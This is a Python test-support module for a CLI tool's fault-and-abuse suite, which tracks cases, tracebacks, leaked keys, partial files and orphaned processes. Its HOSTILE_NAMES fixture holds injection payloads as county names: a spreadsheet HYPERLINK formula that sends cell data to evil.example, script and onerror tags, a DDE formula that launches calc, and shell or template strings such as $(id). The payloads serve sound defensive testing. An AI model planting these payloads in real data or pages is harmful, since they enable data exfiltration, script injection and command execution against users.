"""The fault-and-abuse suite's bookkeeping (tests/faults): cases, findings, one summary line.

Every hostile input, fault or interruption the suite tries is one *case*. A case either
expects a clean error (one paragraph naming the input, exit status 2, no traceback) or
expects the tool to carry on (a batch recording the failure, a resumed page). Its checks
record what they find before asserting, so the closing line counts what happened even
when a case fails:

    faults: N cases, K clean errors, T tracebacks, P partial/misplaced files, L leaks,
    O orphans, F lost files

The records travel from pytest-xdist workers to the controller on the test reports
(``user_properties``); ``tests/conftest.py`` collects them and prints the line.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from mobility_nb.errors import MobilityNBError

PROPERTY = "fault_cases"
KEY = "faultsuite-key-0123456789"  # a made-up CENSUS_API_KEY value
HOSTILE_NAMES = {  # county names written into the suite's copy of the fixture data
    "01003": '=HYPERLINK("http://evil.example/?q="&A1,"click") County',
    "01005": "<script>alert('x')</script> County",
    "01007": 'Dauphin"><img src=x onerror=alert(1)> County',
    "01009": "@SUM(1+1)*cmd|' /C calc'!A0 County",
    "01011": "Franklin {{7*7}} ${HOME} $(id) County",
}
KINDS = {
    "traceback": "tracebacks",
    "partial": "partial/misplaced files",
    "leak": "leaks",
    "orphan": "orphans",
    "lost": "lost files",
}
# Text that must never reach a user for their own mistake, nor on a successful run.
NOT_FOR_PEOPLE = (
    "Traceback (most recent call last)",
    "unexpected error",
    "probably a bug",
    "Run with --debug",
    "KeyboardInterrupt caught in kernel",
    "was never awaited",
    "[IPKernelApp] ERROR",
    "Timeout waiting for execute reply",
)


@dataclass
class Case:
    """One tried input or fault, and what the checks found."""

    name: str
    expect: str = "clean error"  # or "carries on"
    clean: bool = False
    held: bool = False  # the test passed: every check of this case held
    problems: dict[str, list[str]] = field(default_factory=dict)

    def _found(self, kind: str, detail: str) -> None:
        self.problems.setdefault(kind, []).append(detail[:300])
        raise AssertionError(f"[{self.name}] {KINDS[kind]}: {detail}")

    # -- messages ------------------------------------------------------------------------
    def no_traceback(self, *texts: str) -> None:
        """No traceback, "unexpected error" or kernel noise in any of ``texts``."""
        for text in texts:
            for bad in NOT_FOR_PEOPLE:
                if bad in (text or ""):
                    self._found("traceback", f"{bad!r} in: {text[-400:]}")

    def cli_error(
        self, rc: int, out: str, err: str, *, names: Iterable[str] = (), code: int = 2
    ) -> str:
        """A clean CLI error: status ``code``, a ``mobility-nb:`` paragraph naming ``names``."""
        self.no_traceback(out, err)
        message = err.split("mobility-nb: ", 1)[1].strip() if "mobility-nb: " in err else ""
        if rc != code or not message:
            raise AssertionError(
                f"[{self.name}] expected exit {code} and a message, got {rc}: {err!r}"
            )
        for name in names:
            if name not in message:
                raise AssertionError(f"[{self.name}] the message does not name {name!r}: {message}")
        self.clean = True
        return message

    def error(self, exc: BaseException, *, names: Iterable[str] = ()) -> str:
        """A clean in-process error: one of ours, readable, naming ``names``."""
        message = str(exc)
        self.no_traceback(message)
        if not isinstance(exc, MobilityNBError):
            self._found("traceback", f"{type(exc).__name__} is not a package error: {message}")
        for name in names:
            if name not in message:
                raise AssertionError(f"[{self.name}] the message does not name {name!r}: {message}")
        self.clean = True
        return message

    # -- files ---------------------------------------------------------------------------
    def no_partial(self, out: Path, pages: bool = True) -> None:
        """No temporary files, and (``pages``) every page in ``out`` complete and intact."""
        from mobility_nb.atomic import is_our_temp_file
        from mobility_nb.run.fingerprint import files_intact, read_sidecar

        if not Path(out).exists():
            return
        for path in Path(out).rglob("*"):
            if path.is_file() and is_our_temp_file(path.name):
                self._found("partial", f"temporary file left: {path}")
        if not pages:
            return
        for html in Path(out).rglob("*.html"):
            if html.name == "index.html":
                continue
            stem = html.name[: -len(".html")]
            side = read_sidecar(html.with_name(f"{stem}.fingerprint"))
            siblings = [html.with_name(f"{stem}{s}") for s in (".csv", ".provenance.json")]
            if side is None or not files_intact(html.parent, side.get("files")):
                self._found("partial", f"page without an intact record: {html}")
            for sib in siblings:
                if not sib.is_file():
                    self._found("partial", f"page without {sib.name}: {html}")
        for csv in Path(out).rglob("*.csv"):
            if not csv.with_name(csv.name[: -len(".csv")] + ".html").exists() and not any(
                csv.name.startswith(h.name[: -len(".html")] + ".")
                for h in csv.parent.glob("*.html")
            ):
                self._found("partial", f"CSV without its page: {csv}")

    def nothing_outside(self, root: Path, inside: Iterable[Path], before: set[Path]) -> None:
        """No new file under ``root`` except below the ``inside`` folders."""
        allowed = [Path(p).resolve() for p in inside]
        for path in files_below(root) - before:
            if not any(path.resolve().is_relative_to(a) for a in allowed):
                self._found("partial", f"file written outside the output folder: {path}")

    def intact(self, snapshot: dict[Path, bytes]) -> None:
        """The user's files in ``snapshot`` are all still there, unchanged."""
        for path, data in snapshot.items():
            if not path.exists():
                self._found("lost", f"{path} was deleted")
            elif path.read_bytes() != data:
                self._found("lost", f"{path} was overwritten")

    # -- secrets and processes -----------------------------------------------------------
    def no_leak(self, secret: str, *sources: Any) -> None:
        """``secret`` appears in none of ``sources`` (texts, files or folders)."""
        for source in sources:
            if isinstance(source, Path):
                files = files_below(source) if source.is_dir() else {source}
                for f in files:
                    if f.is_file() and secret.encode() in f.read_bytes():
                        self._found("leak", f"the key is in {f}")
            elif secret in str(source):
                self._found("leak", f"the key is in the text {str(source)[:200]!r}")

    def no_orphans(self, seen: dict[int, tuple[float, str]], grace: float = 10.0) -> None:
        """None of the processes in ``seen`` (pid -> start time, command) is alive."""
        alive = survivors(seen, grace)
        if alive:
            for pid, _ in alive:
                with _suppress():
                    os.kill(pid, 9)
            self._found("orphan", f"{len(alive)} process(es) outlived the batch: {alive}")

    def record(self) -> dict[str, Any]:
        return {
            "name": self.name,
            "expect": self.expect,
            "clean": self.clean,
            "held": self.held and not self.problems,
            "problems": {k: len(v) for k, v in self.problems.items()},
        }


class FaultLog:
    """The cases of one test."""

    def __init__(self) -> None:
        self.cases: list[Case] = []

    def case(self, name: str, expect: str = "clean error") -> Case:
        case = Case(name, expect)
        self.cases.append(case)
        return case

    def records(self, passed: bool) -> list[dict[str, Any]]:
        for c in self.cases:
            c.held = passed and (c.clean or c.expect != "clean error")
        return [c.record() for c in self.cases]


# --- helpers for the checks -------------------------------------------------------------------


class _suppress:
    def __enter__(self) -> None:
        return None

    def __exit__(self, *exc: object) -> bool:
        return True


def files_below(root: Path) -> set[Path]:
    """Every file below ``root`` (symlinks not followed)."""
    found = set()
    for dirpath, _, names in os.walk(root):
        for name in names:
            found.add(Path(dirpath, name))
    return found


def snapshot(*paths: Path) -> dict[Path, bytes]:
    return {p: p.read_bytes() for p in paths}


def watch_children(pid: int, seen: dict[int, tuple[float, str]]) -> None:
    """Add every descendant of ``pid`` (start time, command) to ``seen``."""
    import psutil

    try:
        children = psutil.Process(pid).children(recursive=True)
    except psutil.Error:
        return
    for child in children:
        try:
            seen[child.pid] = (child.create_time(), " ".join(child.cmdline())[:100])
        except psutil.Error:
            continue


def survivors(seen: dict[int, tuple[float, str]], grace: float) -> list[tuple[int, str]]:
    """Processes of ``seen`` still alive after waiting up to ``grace`` seconds."""
    import time

    import psutil

    deadline = time.monotonic() + grace
    while True:
        alive = []
        for pid, (started, cmd) in seen.items():
            try:
                proc = psutil.Process(pid)
                if abs(proc.create_time() - started) < 0.05 and proc.status() != "zombie":
                    alive.append((pid, cmd))
            except psutil.Error:
                continue
        if not alive or time.monotonic() > deadline:
            return alive
        time.sleep(0.25)


# --- the summary line ---------------------------------------------------------------------------

_collected: list[dict[str, Any]] = []


def collect(report: Any) -> None:
    """Keep the case records a test report carries (controller side)."""
    if getattr(report, "when", "") != "teardown":
        return
    for name, value in getattr(report, "user_properties", ()):
        if name == PROPERTY:
            _collected.extend(json.loads(value))


def summary_line(records: list[dict[str, Any]]) -> str:
    counts = {k: sum(1 for r in records if r["problems"].get(k)) for k in KINDS}
    clean = sum(1 for r in records if r["expect"] == "clean error" and r["clean"])
    return (
        f"faults: {len(records)} cases, {clean} clean errors, {counts['traceback']} tracebacks, "
        f"{counts['partial']} partial/misplaced files, {counts['leak']} leaks, "
        f"{counts['orphan']} orphans, {counts['lost']} lost files"
    )


def write_summary(terminalreporter: Any) -> None:
    if not _collected:
        return
    expecting = sum(1 for r in _collected if r["expect"] == "clean error")
    terminalreporter.write_sep("-", "fault-and-abuse suite")
    terminalreporter.write_line(summary_line(_collected))
    terminalreporter.write_line(
        f"  ({expecting} cases expect a clean error, {len(_collected) - expecting} expect the "
        "tool to carry on)"
    )
    bad = [
        r for r in _collected if r["problems"] or (r["expect"] == "clean error" and not r["clean"])
    ]
    for r in bad:
        terminalreporter.write_line(
            f"  not held: {r['name']} {r['problems'] or '(no clean error)'}"
        )


def slug(text: str) -> str:
    return re.sub(r"[^A-Za-z0-9]+", "-", text).strip("-")[:60]


# --- running the command as a user does -------------------------------------------------------


def env_for(books: Path, data: Path | None = None, **extra: str) -> dict[str, str]:
    """The environment of a subprocess run: the given notebooks and data, no real key."""
    from support.batch import DATA

    data = data or DATA
    env = dict(os.environ)
    env.pop("CENSUS_API_KEY", None)
    env.update(MOBILITY_NB_NOTEBOOKS=str(books), MOBILITY_NB_DATA=str(data), **extra)
    return env


def cli_command(*args: str) -> list[str]:
    code = "import sys; from mobility_nb.cli import main; sys.exit(main(sys.argv[1:]))"
    return [sys.executable, "-c", code, *args]


def run_cli(
    books: Path, *args: str, data: Path | None = None, timeout: float = 240, **extra: str
) -> subprocess.CompletedProcess:
    """``mobility-nb ARGS`` as a user runs it (a subprocess with the fixture notebook)."""
    return subprocess.run(
        cli_command(*args),
        env=env_for(books, data, **extra),
        capture_output=True,
        text=True,
        timeout=timeout,
    )
